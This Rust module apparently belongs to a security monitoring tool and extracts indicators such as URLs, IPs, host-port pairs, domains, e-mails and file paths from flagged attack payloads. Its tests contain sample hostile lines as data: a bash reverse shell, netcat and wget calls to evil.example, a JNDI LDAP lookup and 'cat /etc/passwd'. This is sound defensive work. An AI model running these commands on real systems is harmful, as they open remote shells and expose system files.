//! Finds what a payload points at: command hosts, URLs, domains, e-mail addresses, files.

use std::net::{Ipv4Addr, Ipv6Addr};

use super::text::{at, before, begins_word, is_space, is_word, part, run, stands};

/// Indicators of one message: a payload names one or two hosts; the bound keeps its record short.
pub const MAX_INDICATORS: usize = 8;

/// Characters of a message's findings that are looked through. Payloads have 20 to 500.
pub const MAX_TEXT: usize = 2048;

const SCHEMES: [&str; 9] = ["http", "https", "ftp", "tftp", "ldap", "ldaps", "rmi", "dns", "iiop"];
const FETCHERS: [&str; 11] = [
    "curl", "wget", "fetch", "ping", "nslookup", "dig", "host", "nc", "ncat", "ssh", "telnet",
];
const FOLDERS: [&str; 11] = [
    "etc", "tmp", "var", "proc", "usr", "bin", "home", "root", "opt", "dev/shm", "boot",
];

/// Something to look for elsewhere, as it was written.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Indicator {
    /// `url`, `host-port`, `ip`, `domain`, `email` or `file`.
    pub kind: &'static str,
    pub value: String,
}

/// The indicators in an excerpt that a rule has found hostile, each once, the most telling first.
pub fn in_payload(text: &str) -> Vec<Indicator> {
    let mut found = Found::default();
    let urls = urls(text);
    let mut domains: Vec<&str> = Vec::new();
    let mut addresses: Vec<&str> = Vec::new();
    for url in &urls {
        found.add("url", (*url).to_owned());
    }
    let mut host_port = |found: &mut Found, address, port: Option<&str>| {
        if !is_address(address) {
            return;
        }
        addresses.push(address);
        if let Some(port) = port.filter(|port| is_port(port)) {
            let v6 = address.contains(':');
            found.add(
                "host-port",
                if v6 {
                    format!("[{address}]:{port}")
                } else {
                    format!("{address}:{port}")
                },
            );
        }
    };
    addresses_v4(text, |address, port| host_port(&mut found, address, port));
    addresses_v6(text, |address, port| host_port(&mut found, address, port));
    domains_with_port(text, |domain, port| {
        domains.push(domain);
        if is_port(port) {
            found.add("host-port", format!("{}:{port}", domain.to_ascii_lowercase()));
        }
    });
    for address in addresses {
        found.add("ip", address.to_owned());
    }
    for url in urls {
        let rest = url.split_once("://").map_or("", |(_, rest)| rest);
        let authority = rest.split('/').next().unwrap_or_default();
        let host = authority
            .rsplit('@')
            .next()
            .unwrap_or_default()
            .split(':')
            .next()
            .unwrap_or_default();
        if !host.is_empty() && !host.starts_with('[') && !is_address(host) {
            domains.push(host);
        }
    }
    fetched(text, |domain| domains.push(domain));
    for domain in domains {
        found.add("domain", domain.to_lowercase());
    }
    mails(text, |mail| found.add("email", mail.to_owned()));
    files(text, |file| found.add("file", file.to_owned()));
    found.items
}

/// At most `MAX_INDICATORS` indicators of a message's payloads; an address stands once, with its port where it has one.
pub fn of_texts<'a>(texts: impl IntoIterator<Item = &'a str>) -> Vec<Indicator> {
    let mut found = Found::default();
    let mut left = MAX_TEXT;
    for text in texts {
        let (end, count) = run(text, 0, left, |_| true);
        for item in in_payload(part(text, 0, end)) {
            found.add(item.kind, item.value);
        }
        left -= count;
        if left == 0 {
            break;
        }
    }
    // A port follows the last colon; what stands before it is told by the pair already.
    let paired: Vec<String> = (found.items.iter().filter(|item| item.kind == "host-port"))
        .filter_map(|item| item.value.rsplit_once(':'))
        .map(|(host, _)| host.trim_matches(['[', ']']).to_owned())
        .collect();
    let mut items = found.items;
    items.retain(|item| !(matches!(item.kind, "ip" | "domain") && paired.contains(&item.value)));
    items.truncate(MAX_INDICATORS);
    items
}

/// Indicators in the order in which they were found, each once.
#[derive(Default)]
struct Found {
    items: Vec<Indicator>,
    seen: std::collections::HashSet<(&'static str, String)>,
}

impl Found {
    fn add(&mut self, kind: &'static str, value: String) {
        // The few of a usual payload are compared one by one, the hundreds of a hostile one by their hash.
        if self.items.len() < 16 {
            if self.items.iter().any(|item| item.kind == kind && item.value == value) {
                return;
            }
        } else {
            if self.seen.is_empty() {
                self.seen
                    .extend(self.items.iter().map(|item| (item.kind, item.value.clone())));
            }
            if !self.seen.insert((kind, value.clone())) {
                return;
            }
        }
        self.items.push(Indicator { kind, value });
    }
}

/// `scheme "://" 3*200(any but space and what ends a URL in a shell, script or mark-up)`
fn urls(text: &str) -> Vec<&str> {
    let mut found = Vec::new();
    let mut done = 0;
    let mut from = 0;
    while let Some(position) = text.get(from..).and_then(|rest| rest.find("://")) {
        let colon = from + position;
        from = colon + 3;
        let start = SCHEMES.iter().filter_map(|scheme| {
            let start = colon.checked_sub(scheme.len())?;
            (start >= done && stands(text, start, scheme) && begins_word(text, start)).then_some(start)
        });
        let Some(start) = start.min() else { continue };
        let (end, count) = run(text, from, 200, |c| {
            !matches!(c, '\'' | '"' | '<' | '>' | '\\' | ')' | '}' | '|' | ';' | '`') && !is_space(c)
        });
        if count >= 3 {
            found.push(part(text, start, end));
            done = end;
            from = end;
        }
    }
    found
}

/// `4 numbers with dots [ 1*3(":" / "/" / " " / "," / "'" / DQUOTE) port ]`, in no longer number.
fn addresses_v4<'a>(text: &'a str, mut each: impl FnMut(&'a str, Option<&'a str>)) {
    let bytes = text.as_bytes();
    let mut from = 0;
    while let Some(&byte) = bytes.get(from) {
        if !byte.is_ascii_digit() || before(text, from).is_some_and(|c| c.is_ascii_digit() || c == '.') {
            from += 1;
            continue;
        }
        let Some(end) = four_numbers(bytes, from) else {
            from += 1;
            continue;
        };
        let gap = run_of(bytes, end, 3, |byte| {
            matches!(byte, b':' | b'/' | b' ' | b',' | b'\'' | b'"')
        });
        let port = run_of(bytes, gap, 5, |byte| byte.is_ascii_digit());
        let ends = |at: usize| !bytes.get(at).is_some_and(|&byte| byte.is_ascii_digit() || byte == b'.');
        let address = part(text, from, end);
        if gap > end && port > gap && ends(port) {
            each(address, Some(part(text, gap, port)));
            from = port;
        } else if ends(end) {
            each(address, None);
            from = end;
        } else {
            from += 1;
        }
    }
}

/// Behind four numbers of one to three digits with dots between them.
fn four_numbers(bytes: &[u8], start: usize) -> Option<usize> {
    let mut end = start;
    for number in 0..4 {
        if number > 0 {
            if bytes.get(end) != Some(&b'.') {
                return None;
            }
            end += 1;
        }
        let digits = run_of(bytes, end, 3, |byte| byte.is_ascii_digit());
        if digits == end {
            return None;
        }
        end = digits;
    }
    Some(end)
}

/// `"[" 2*45(HEXDIG / ":" / ".") "]" [ ":" port ]`
fn addresses_v6<'a>(text: &'a str, mut each: impl FnMut(&'a str, Option<&'a str>)) {
    let bytes = text.as_bytes();
    let mut from = 0;
    while let Some(position) = bytes.get(from..).and_then(|rest| memchr::memchr(b'[', rest)) {
        let start = from + position + 1;
        from = start;
        let end = run_of(bytes, start, 45, |byte| {
            byte.is_ascii_hexdigit() || matches!(byte, b':' | b'.')
        });
        if end < start + 2 || bytes.get(end) != Some(&b']') {
            continue;
        }
        let address = part(text, start, end);
        let port = run_of(bytes, end + 2, 5, |byte| byte.is_ascii_digit());
        if bytes.get(end + 1) == Some(&b':')
            && port > end + 2
            && !bytes.get(port).is_some_and(|byte| byte.is_ascii_digit())
        {
            each(address, Some(part(text, end + 2, port)));
            from = port;
        } else {
            each(address, None);
            from = end + 1;
        }
    }
}

/// `name (":" / "/" / " ") 2*5DIGIT`, the name in no longer one, the digits in no longer word.
fn domains_with_port<'a>(text: &'a str, mut each: impl FnMut(&'a str, &'a str)) {
    let bytes = text.as_bytes();
    let mut from = 0;
    while let Some(&byte) = bytes.get(from) {
        let mut next = from + 1;
        if byte.is_ascii_alphanumeric() && begins_name(text, from) {
            let found = name_ends(bytes, from).into_iter().flatten().find_map(|end| {
                let digits = matches!(bytes.get(end), Some(b':' | b'/' | b' ')).then_some(end + 1)?;
                let port = run_of(bytes, digits, 5, |byte| byte.is_ascii_digit());
                (port >= digits + 2 && !at(text, port).is_some_and(is_word)).then_some((end, digits, port))
            });
            if let Some((end, digits, port)) = found {
                each(part(text, from, end), part(text, digits, port));
                next = port;
            }
        }
        from = next;
    }
}

/// `command 1*4SP *4("-" 1*20(any but SP) 1*4SP) name`
fn fetched<'a>(text: &'a str, mut each: impl FnMut(&'a str)) {
    let bytes = text.as_bytes();
    let mut from = 0;
    while let Some(&byte) = bytes.get(from) {
        if byte.is_ascii_alphabetic() && begins_word(text, from) {
            if let Some((start, end)) = fetched_name(text, from) {
                each(part(text, start, end));
                from = end;
                continue;
            }
        }
        from += 1;
    }
}

fn fetched_name(text: &str, start: usize) -> Option<(usize, usize)> {
    let mut position = FETCHERS.iter().find_map(|command| {
        if !stands(text, start, command) {
            return None;
        }
        let (end, count) = run(text, start + command.len(), 4, is_space);
        (count > 0).then_some(end)
    })?;
    for _ in 0..4 {
        if text.as_bytes().get(position) != Some(&b'-') {
            break;
        }
        let (option, length) = run(text, position + 1, 20, |c| !is_space(c));
        let (end, spaces) = run(text, option, 4, is_space);
        if length == 0 || spaces == 0 {
            return None;
        }
        position = end;
    }
    let bytes = text.as_bytes();
    let end = name_ends(bytes, position)
        .into_iter()
        .flatten()
        .find(|&end| !at(text, end).is_some_and(|c| is_word(c) || c == '-'))?;
    begins_name(text, position).then_some((position, end))
}

/// Whether no name goes on into `at`.
fn begins_name(text: &str, at: usize) -> bool {
    !before(text, at).is_some_and(|c| is_word(c) || matches!(c, '.' | '-'))
}

/// Where a domain name that begins here can end, the longest first; what may follow is not looked at.
///
/// ```text
/// name = 1*5(ALNUM *62(ALNUM / "-") ".") 2*24ALPHA
/// ```
fn name_ends(bytes: &[u8], start: usize) -> [Option<usize>; 5] {
    labels_then_top(bytes, start, 63, true)
}

fn labels_then_top(bytes: &[u8], start: usize, most: usize, first_plain: bool) -> [Option<usize>; 5] {
    let mut ends = [None; 5];
    let mut position = start;
    for slot in ends.iter_mut().rev() {
        if first_plain && bytes.get(position) == Some(&b'-') {
            break;
        }
        let label = run_of(bytes, position, most, |byte| {
            byte.is_ascii_alphanumeric() || byte == b'-'
        });
        if label == position || bytes.get(label) != Some(&b'.') {
            break;
        }
        position = label + 1;
        let top = run_of(bytes, position, 24, |byte| byte.is_ascii_alphabetic());
        if top >= position + 2 && !bytes.get(top).is_some_and(|&byte| byte.is_ascii_alphanumeric()) {
            *slot = Some(top);
        }
    }
    ends
}

/// `1*64(ALNUM / "." / "_" / "%" / "+" / "-") "@" name`. The address of a SIP URI is a caller, not an e-mail address:
/// nothing begins behind a colon but that of `mailto:`.
fn mails<'a>(text: &'a str, mut each: impl FnMut(&'a str)) {
    let bytes = text.as_bytes();
    if memchr::memchr(b'@', bytes).is_none() {
        return;
    }
    let local = |byte: u8| byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'_' | b'%' | b'+' | b'-');
    let mut from = 0;
    while let Some(&byte) = bytes.get(from) {
        if !local(byte) {
            from += 1;
            continue;
        }
        let free = !before(text, from).is_some_and(|c| is_word(c) || matches!(c, '.' | '%' | '+' | ':' | '-'));
        let mailto = from.checked_sub(7).is_some_and(|start| stands(text, start, "mailto:"));
        // Nothing begins inside the run, so that it is walked once.
        let run_end = run_of(bytes, from, usize::MAX, local);
        let mut next = run_end;
        if (free || mailto) && run_end - from <= 64 && bytes.get(run_end) == Some(&b'@') {
            let end = labels_then_top(bytes, run_end + 1, 63, false)
                .into_iter()
                .flatten()
                .find(|&end| !at(text, end).is_some_and(is_word));
            if let Some(end) = end {
                each(part(text, from, end));
                next = end;
            }
        }
        from = next;
    }
}

/// `"/" folder "/" 2*120(word / "." / "/" / "-")` or `ALPHA ":\" 2*120(word / "\" / "." / "-")`
fn files<'a>(text: &'a str, mut each: impl FnMut(&'a str)) {
    let bytes = text.as_bytes();
    let mut from = 0;
    while let Some(position) = bytes.get(from..).and_then(|rest| memchr::memchr2(b'/', b'\\', rest)) {
        let slash = from + position;
        let (start, name, other) = if bytes.get(slash) == Some(&b'/') {
            let folder = FOLDERS
                .iter()
                .find(|folder| stands(text, slash + 1, folder) && bytes.get(slash + 1 + folder.len()) == Some(&b'/'));
            (Some(slash), folder.map(|folder| slash + folder.len() + 2), '/')
        } else {
            let drive = slash.checked_sub(2).filter(|&drive| {
                drive >= from && bytes[drive].is_ascii_alphabetic() && bytes.get(drive + 1) == Some(&b':')
            });
            (drive, drive.map(|_| slash + 1), '\\')
        };
        let mut next = slash + 1;
        if let (Some(start), Some(name)) = (start, name) {
            if begins_word(text, start) {
                let (end, count) = run(text, name, 120, |c| is_word(c) || c == other || matches!(c, '.' | '-'));
                if count >= 2 {
                    each(part(text, start, end));
                    next = end;
                }
            }
        }
        from = next;
    }
}

fn run_of(bytes: &[u8], start: usize, most: usize, is: impl Fn(u8) -> bool) -> usize {
    let rest = bytes.get(start..).unwrap_or_default();
    start + rest.iter().take(most).take_while(|&&byte| is(byte)).count()
}

fn is_port(digits: &str) -> bool {
    digits.parse::<u16>().is_ok_and(|port| port > 0)
}

fn is_address(text: &str) -> bool {
    text.parse::<Ipv4Addr>().is_ok() || text.parse::<Ipv6Addr>().is_ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shown(text: &str) -> Vec<String> {
        in_payload(text)
            .into_iter()
            .map(|item| format!("{} {}", item.kind, item.value))
            .collect()
    }

    #[test]
    fn what_a_shell_would_connect_to() {
        let text = "bash -i >& /dev/tcp/192.0.2.195:3456 0>&1";
        assert_eq!(shown(text), ["host-port 192.0.2.195:3456", "ip 192.0.2.195"]);
        assert_eq!(of_texts([text]).len(), 1);
        assert_eq!(shown("[2001:db8::1]:4444")[0], "host-port [2001:db8::1]:4444");
        assert_eq!(shown("wget -q --tries=1 Evil.example"), ["domain evil.example"]);
        assert_eq!(
            shown("nc evil.example 4444"),
            ["host-port evil.example:4444", "domain evil.example"]
        );
    }

    #[test]
    fn addresses_of_the_web_and_mail_and_files() {
        assert_eq!(
            shown("${jndi:ldap://h.example:1389/a}"),
            [
                "url ldap://h.example:1389/a",
                "host-port h.example:1389",
                "domain h.example"
            ]
        );
        assert_eq!(shown("mailto:a@b.example sip:c@d.example"), ["email a@b.example"]);
        assert_eq!(
            shown("cat /etc/passwd c:\\windows\\x"),
            ["file /etc/passwd", "file c:\\windows\\x"]
        );
    }

    #[test]
    fn many_indicators_stand_once_each() {
        let text: String = (0..200).map(|n| format!("10.0.0.{} ", n % 100)).collect();
        assert_eq!(shown(&text).iter().filter(|item| item.starts_with("ip")).count(), 100);
        assert_eq!(of_texts([text.as_str()]).len(), MAX_INDICATORS);
    }
}
